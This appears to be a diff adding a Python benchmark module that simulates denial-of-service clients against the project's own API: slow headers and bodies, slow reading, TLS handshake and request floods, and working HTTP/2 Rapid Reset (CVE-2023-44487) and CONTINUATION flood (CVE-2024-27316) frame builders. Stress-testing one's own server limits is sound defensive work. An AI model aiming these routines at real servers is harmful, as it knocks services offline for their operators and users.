@@ -1,0 +1,158 @@
+"""What one client of each attack does, until its connection ends."""
+
+from __future__ import annotations
+
+import asyncio
+import functools
+import itertools
+import json
+from collections.abc import Awaitable, Callable
+from typing import TYPE_CHECKING, Any
+
+from h2.connection import H2Connection
+
+if TYPE_CHECKING:
+    from benchmarks.attacks import Attack
+
+Client = Callable[[Any, int], Awaitable[None]]
+HEAD = "{} HTTP/1.1\r\nHost: api.example.com\r\n"
+SLOW = 1.0  # seconds between two bytes
+STREAMS = 1000  # requests that a client resets on one connection
+SEARCH = "GET /api/v1/opportunities?limit=25&include=total&q="
+LARGE = json.dumps({"title": "x" * 2**20})[: 2**20 - 2] + '"}'
+numbers = itertools.count(1)
+
+
+async def _trickle(attack: Attack, number: int, start: str, drop: bytes) -> None:
+    """Send the beginning of a request, and then a little every second."""
+    reader, writer = await attack.connect(number)
+    try:
+        writer.write(start.encode())
+        while not reader.at_eof():
+            await asyncio.sleep(SLOW)
+            writer.write(drop)
+            await writer.drain()
+    finally:
+        writer.transport.abort()
+
+
+async def slow_head(attack: Attack, number: int) -> None:
+    """Send headers that never end."""
+    await _trickle(attack, number, HEAD.format("GET /api/v1/health"), b"X-A: b\r\n")
+
+
+async def slow_body(attack: Attack, number: int) -> None:
+    """Send a body that never ends, without a token."""
+    start = HEAD.format("POST /api/v1/opportunities") + "Content-Length: 9000\r\n\r\n{"
+    await _trickle(attack, number, start, b" ")
+
+
+async def slow_body_with_token(attack: Attack, number: int) -> None:
+    """Send a body that never ends, with a token that looks real."""
+    start = HEAD.format("POST /api/v1/opportunities") + "Content-Length: 9000\r\n"
+    token = f"x.y.{next(numbers):086}"
+    await _trickle(attack, number, f"{start}Authorization: Bearer {token}\r\n\r\n{{", b" ")
+
+
+async def slow_reader(attack: Attack, number: int) -> None:
+    """Read a long response, some bytes per second."""
+    reader, writer = await attack.connect(number, buffer=4096)
+    try:
+        writer.write((HEAD.format("GET /api/v1/openapi.json") + "\r\n").encode())
+        while await reader.read(64):  # noqa: ASYNC110 - the pause is what makes it slow
+            await asyncio.sleep(SLOW)
+    finally:
+        writer.transport.abort()
+
+
+@functools.cache
+def resets() -> bytes:
+    """Return what opens a connection, and begins and resets as many requests as nginx allows."""
+    wire = H2Connection()
+    wire.initiate_connection()
+    path = [(":scheme", "https"), (":authority", "api.example.com"), (":path", "/api/v1/health")]
+    for stream in range(1, 2 * STREAMS, 2):
+        wire.send_headers(stream, [(":method", "GET"), *path], end_stream=True)
+        wire.reset_stream(stream)
+    return wire.data_to_send()
+
+
+async def rapid_reset(attack: Attack, number: int) -> None:
+    """Begin and reset requests over HTTP/2 (CVE-2023-44487)."""
+    await _send(attack, number, itertools.repeat(resets(), 1))
+
+
+async def continuation(attack: Attack, number: int) -> None:
+    """Send headers over HTTP/2 that never end (CVE-2024-27316)."""
+    wire = H2Connection()
+    wire.initiate_connection()
+    fields = b"".join(b"\x00\x04x-%02d\x7f\x00" % n + b"v" * 127 for n in range(100))
+    start = wire.data_to_send() + _frame(1, fields)
+    await _send(attack, number, itertools.chain([start], itertools.repeat(_frame(9, fields), 2000)))
+
+
+def _frame(kind: int, payload: bytes) -> bytes:
+    """Return an HTTP/2 frame of stream 1 that does not end the headers."""
+    return len(payload).to_bytes(3, "big") + bytes([kind, 0]) + (1).to_bytes(4, "big") + payload
+
+
+async def _send(attack: Attack, number: int, parts: Any) -> None:
+    """Send parts over HTTP/2 and drop what arrives, until nginx closes the connection."""
+    reader, writer = await attack.connect(number, "h2")
+
+    async def drop() -> None:
+        while await reader.read(65536):
+            pass
+
+    dropping = asyncio.create_task(drop())
+    try:
+        for part in parts:
+            writer.write(part)
+            await writer.drain()
+            attack.counts["parts"] += 1
+        await asyncio.wait_for(dropping, 15)
+    except TimeoutError:
+        attack.counts["kept"] += 1
+    finally:
+        dropping.cancel()
+        await asyncio.gather(dropping, return_exceptions=True)
+        writer.transport.abort()
+
+
+async def handshake(attack: Attack, number: int) -> None:
+    """Make TLS handshakes, and send no request."""
+    while True:
+        _, writer = await attack.connect(number)
+        writer.transport.abort()
+
+
+async def page(attack: Attack, number: int) -> None:
+    """Request a public page as fast as possible."""
+    await _ask(attack, number, "GET /api/v1/health")
+
+
+async def search(attack: Attack, number: int) -> None:
+    """Search through all opportunities of a user with very many."""
+    await _ask(attack, number, f"{SEARCH}nowhere", f"Authorization: Bearer {attack.token}\r\n")
+
+
+async def large_body(attack: Attack, number: int) -> None:
+    """Send the largest body that is allowed."""
+    fields = f"Authorization: Bearer {attack.token}\r\nContent-Type: application/json\r\n"
+    fields += f"Content-Length: {len(LARGE)}\r\n"
+    await _ask(attack, number, "POST /api/v1/opportunities", fields, LARGE)
+
+
+async def _ask(attack: Attack, number: int, line: str, fields: str = "", body: str = "") -> None:
+    """Send one request after another on a connection, and count the statuses."""
+    reader, writer = await attack.connect(number)
+    message = f"{HEAD.format(line)}{fields}\r\n{body}".encode()
+    try:
+        while not reader.at_eof():
+            writer.write(message)
+            await writer.drain()
+            head = (await reader.readuntil(b"\r\n\r\n")).lower()
+            await reader.readexactly(int(head.partition(b"content-length:")[2].split(b"\r", 1)[0]))
+            attack.counts[head[9:12].decode()] += 1
+    finally:
+        writer.transport.abort()
